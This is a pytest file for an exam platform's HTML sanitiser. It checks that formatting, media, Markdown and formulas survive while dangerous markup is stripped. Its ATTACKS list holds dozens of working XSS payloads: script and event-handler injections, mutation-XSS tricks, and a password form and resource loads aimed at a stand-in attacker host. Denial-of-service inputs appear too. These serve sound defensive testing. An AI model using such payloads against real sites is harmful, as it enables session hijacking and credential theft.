"""What authors write comes out with its meaning and without its dangers."""

from __future__ import annotations

import time
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from examhall.bank.content.richtext import (
    TAGS,
    foreign_tags,
    media_of,
    plain_text,
    render,
    sanitise,
    shown,
    unlabelled_media,
)

DIGEST = "0123456789abcdef" * 4
PICTURE = f'<img src="media:{DIGEST}" alt="A map">'
SOUND = f'<audio src="media:{DIGEST}" title="A bell" controls=""></audio>'

ATTRIBUTES = {
    "lang", "dir", "colspan", "rowspan", "scope", "start", "type", "src", "alt", "title", "aria-label", "width",
    "height", "controls",
}  # fmt: skip

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/pixel.gif">',
    "<svg onload=alert(1)>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    '<svg><style><img src="</style><img src=x onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="https://evil.example">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=//evil.example></object>",
    "<embed src=//evil.example>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>body{background:url(//evil.example)}</style>",
    "<p style='background:url(//evil.example)'>x</p>",
    "<p class=btn id=submit name=csrf onclick=alert(1)>x</p>",
    "<form action=//evil.example><input name=password><button>Submit</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video src=//evil.example><source onerror=alert(1)></video>",
    "<audio src=//evil.example autoplay>",
    "<table background=//evil.example><tr><td background=//evil.example>x</table>",
    "<p dir='ltr\" onmouseover=\"alert(1)'>x</p>",
    "<p lang='x\" onmouseover=\"alert(1)'>x</p>",
    "<td colspan=99999999>x</td>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php echo 1 ?><b>x</b>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<textarea><script>alert(1)</script></textarea>",
    "<b/onclick=alert(1)>x</b>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<slot name=x><custom-element onclick=alert(1)>x</custom-element>",
    f"<img src='media:{DIGEST}?https://evil.example'>",
    f"<img src='media:{DIGEST}' srcset='//evil.example/2x.png 2x' onerror=alert(1)>",
    f"<img src='//evil.example/media:{DIGEST}'>",
    f"<p data-x=' src=media:{DIGEST}'><img alt=' src=media:{DIGEST}' src=//evil.example>",
    f"<video src='media:{DIGEST}' poster=//evil.example autoplay></video>",
    f"<audio src='media:{DIGEST}'><source src=//evil.example><track src=//evil.example></audio>",
    r"\(<img src=x onerror=alert(1)>\)",
    r"\(<script>alert(1)</script>\)",
    r"\(a<!--\)<img src=x onerror=alert(1)>-->",
]

PIECES = [
    "<p>", "</p>", "<table>", "<tr>", "<td>", "<caption>", "<b>", "</b>", "<i>", "<pre>", "<ul>", "<li>", "<div>",
    "</div>", "<ruby>", "<rt>", "<h3>", "</h3>", "<br>", "<select>", "<option>", "<svg>", "<foreignObject>", "<math>",
    "<mi>", "<q>", "<hr>", "<nobr>", "<form>", "<button>", "<noscript>", "<textarea>", "<title>", "<!--", "-->", "&",
    f"<img src=media:{DIGEST} alt=a>", f"<audio src=media:{DIGEST}>", "</audio>", "<video src=x>", r"\(", r"\)",
    r"\[", r"\]", r"\frac", "{", "}", r"\text{", r"\href{", "a<b", "&lt;", "&#0;", "x", "\n", " ", "<a href=x>",
    "<span lang=a>", "<p dir=rtl>", "<font color=red>", "<img src=x>",
]  # fmt: skip


class Elements(HTMLParser):
    """Collects the elements and attributes that a page would have."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: dict[str, str | None] = {}
        self.sources: set[str | None] = set()
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes.update(attrs)
        self.sources |= {value for name, value in attrs if name == "src"}


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_loads_links_or_runs_survives(attack: str) -> None:
    for around in ("{}", "<p>{}</p>", "<table><tr><td>{}", "<pre>\n{}</pre>"):
        clean = sanitise(around.format(attack))
        page = Elements(clean)
        assert page.tags <= TAGS
        assert page.attributes.keys() <= ATTRIBUTES
        assert page.sources <= {f"media:{DIGEST}"}
        assert not any("evil" in (value or "") or "alert" in (value or "") for value in page.attributes.values())
        assert sanitise(clean) == clean


def test_structure_emphasis_and_language_stay() -> None:
    html = (
        '<p dir="rtl" lang="ar">نص <strong>مهم</strong></p><ol start="3" type="a"><li>H<sub>2</sub>O</li></ol>'
        '<table><tbody><tr><th scope="col">x</th><td colspan="2">y</td></tr></tbody></table>'
    )
    assert sanitise(html) == html


def test_a_text_that_only_looks_like_markup_is_kept_as_text() -> None:
    assert sanitise("1 < 2 & 3 > 2") == "1 &lt; 2 &amp; 3 &gt; 2"
    assert plain_text(sanitise("1 < 2 & 3 > 2")) == "1 < 2 & 3 > 2"


def test_the_text_of_a_link_stays_and_its_address_goes() -> None:
    assert sanitise('See <a href="https://example.org">the rules</a>.') == "See the rules."


def test_an_empty_first_line_of_a_listing_survives() -> None:
    html = "<pre>\n\n  x = 1</pre>"
    assert sanitise(html) == html


@given(st.lists(st.sampled_from(PIECES) | st.text(max_size=3), max_size=12).map("".join))
def test_whatever_is_written_is_safe_and_sanitised_once_for_all(html: str) -> None:
    clean = sanitise(html)
    page = Elements(clean)
    assert page.tags <= TAGS
    assert page.attributes.keys() <= ATTRIBUTES
    assert page.sources <= {f"media:{DIGEST}"}
    assert sanitise(clean) == clean


@given(st.lists(st.sampled_from(PIECES) | st.text(max_size=3), max_size=12).map("".join))
def test_what_is_shown_has_only_what_was_written_and_formulas(html: str) -> None:
    written = Elements(sanitise(html))
    page = Elements(shown(sanitise(html), "/media"))
    added = page.tags - written.tags
    assert added <= {"code", "math"} or all(tag.startswith("m") for tag in added - {"code"})
    assert not any(name.startswith("on") or name in {"href", "style"} for name in page.attributes)
    assert page.sources <= {f"/media/{DIGEST}"}


def test_formatting_left_open_does_not_multiply() -> None:
    """Without the guard this is 250 MB of HTML and gigabytes of memory."""
    hostile = "<p>" + "".join(f"<b lang=a{n}>" for n in range(2500)) + "</p>" + "<p>x" * 6000
    started = time.process_time()
    assert len(sanitise(hostile)) < 10 * len(hostile)
    assert time.process_time() - started < 2


def test_foreign_tags_names_what_is_left_out_once_and_in_order() -> None:
    assert foreign_tags('<p>a<IMG src=x><b>b</b><img><a href="#">c</a> 1 < 2 </p>') == ["img", "a"]


def test_plain_text_separates_blocks_and_joins_inline_elements() -> None:
    assert plain_text("<p>H<sub>2</sub>O</p><p>is&nbsp;wet &amp; <b>cold</b></p>") == "H2O is wet & cold"


def test_a_long_text_is_cut_at_a_word() -> None:
    assert plain_text("What is the capital of Portugal?", 20) == "What is the capital…"
    assert plain_text("x" * 30, 20) == "x" * 19 + "…"
    assert plain_text("short", 20) == "short"


@given(st.text(max_size=80), st.integers(2, 40))
def test_a_cut_text_is_never_longer_than_asked(text: str, limit: int) -> None:
    assert len(plain_text(sanitise(text), limit)) <= limit


def test_the_html_format_is_taken_as_it_is() -> None:
    assert render("<b>a</b>\nb", "html") == "<b>a</b>\nb"


def test_the_moodle_format_shows_line_breaks_except_beside_the_tags_of_blocks() -> None:
    assert render("one\n<b>two</b>\nthree", "moodle") == "one<br><b>two</b><br>three"
    assert render("one<br>\n<p>two</P>\nthree", "moodle") == "one<br> <p>two</P> three"
    assert render("<ul>\n  <li>one</li>\n</ul>", "moodle") == "<ul> <li>one</li> </ul>"


def test_the_plain_format_knows_no_markup() -> None:
    assert render("a <b> & c\nd", "plain") == "a &lt;b&gt; &amp; c<br>d"


def test_the_markdown_format_gives_emphasis_lists_and_code() -> None:
    assert render("**bold** and `x < y`", "markdown") == "<strong>bold</strong> and <code>x &lt; y</code>"
    assert render("- one\n- two", "markdown") == "<ul>\n<li>one</li>\n<li>two</li>\n</ul>"
    assert render("one\n\ntwo", "markdown") == "<p>one</p>\n<p>two</p>"


def test_markdown_makes_neither_links_nor_pictures() -> None:
    html = sanitise(
        render("[a](http://evil.example) ![b](http://evil.example/p.png) <http://evil.example>", "markdown")
    )
    assert Elements(html).tags == set()


def test_another_format_is_unknown() -> None:
    with pytest.raises(KeyError):
        render("x", "wiki")


def test_pictures_sounds_and_films_of_the_own_store_stay() -> None:
    film = f'<video src="media:{DIGEST}" aria-label="A film" width="320" controls=""></video>'
    assert sanitise(PICTURE + SOUND + film) == PICTURE + SOUND + film
    assert media_of(PICTURE) == {DIGEST}
    assert foreign_tags(PICTURE + SOUND) == []


def test_a_medium_without_a_file_of_the_store_goes() -> None:
    assert sanitise('a<img src="https://example.org/x.png" alt="x"><img alt="y"><audio>b</audio>') == "ab"
    assert foreign_tags('<img src="x.png">') == ["img"]


def test_what_a_medium_shows_counts_as_words() -> None:
    assert plain_text(f"<p>{PICTURE}</p>") == "A map"
    assert plain_text(f"Hear{SOUND}") == "Hear A bell"


@pytest.mark.parametrize("words", ["", "alt", "alt=''", "alt=' '", "title='no substitute'"])
def test_a_picture_needs_words_for_those_who_do_not_see_it(words: str) -> None:
    assert len(unlabelled_media(sanitise(f"<img src='media:{DIGEST}' {words}>{PICTURE}"))) == 1


def test_a_sound_needs_a_title() -> None:
    assert len(unlabelled_media(sanitise(f"<audio src='media:{DIGEST}' alt='x'></audio>{SOUND}"))) == 1


def test_media_are_shown_from_the_store() -> None:
    assert shown(PICTURE, "/t/qalam/media") == f'<img src="/t/qalam/media/{DIGEST}" alt="A map">'
    assert shown(f'Write src="media:{DIGEST}".', "/media") == f'Write src="media:{DIGEST}".'


def test_a_less_than_sign_in_a_formula_begins_no_tag() -> None:
    assert sanitise(r"\(a<b\) and \(c>d\)") == r"\(a&lt;b\) and \(c&gt;d\)"
    assert foreign_tags(r"\(a<b\)") == []


def test_formulas_are_shown_as_mathml() -> None:
    assert shown(r"Is \(a &lt; 2\)?", "") == (
        'Is <math display="inline"><mrow><mi>a</mi><mo>&lt;</mo><mn>2</mn></mrow></math>?'
    )
    assert shown(r"\[a<br>b\]", "") == '<math display="block"><mrow><mi>a</mi><mi>b</mi></mrow></math>'
    assert "<mtable>" in shown(r"\[\begin{matrix}a&amp;b\\[2pt]c&amp;d\end{matrix}\]", "")


@pytest.mark.parametrize(
    "html",
    [r"<code>\(x\)</code>", r"<pre>\(x\)</pre>", r"\\(x\\)", r"\(x", r"\(<b>x</b>\)", r'<p lang="\(x\)">y</p>'],
)
def test_what_is_no_formula_stays_as_it_is(html: str) -> None:
    assert shown(html, "") == html


@pytest.mark.parametrize("latex", [r"\frac{", r"\href{javascript:alert(1)}{x}", "x" * 3000, "{" * 70 + "}" * 70])
def test_a_formula_that_cannot_be_drawn_is_shown_as_it_was_written(latex: str) -> None:
    assert shown(rf"\({latex}\)", "") == rf'<code class="maths" dir="ltr">\({latex}\)</code>'


def test_many_formulas_that_never_end_cost_little() -> None:
    started = time.process_time()
    for hostile in (r"\(" * 25_000, r"\[" * 25_000, r"\(\[" * 12_000, r"\(" + "\\" * 50_000, "<code>" * 4_000):
        shown(sanitise(hostile), "/media")
    assert time.process_time() - started < 2
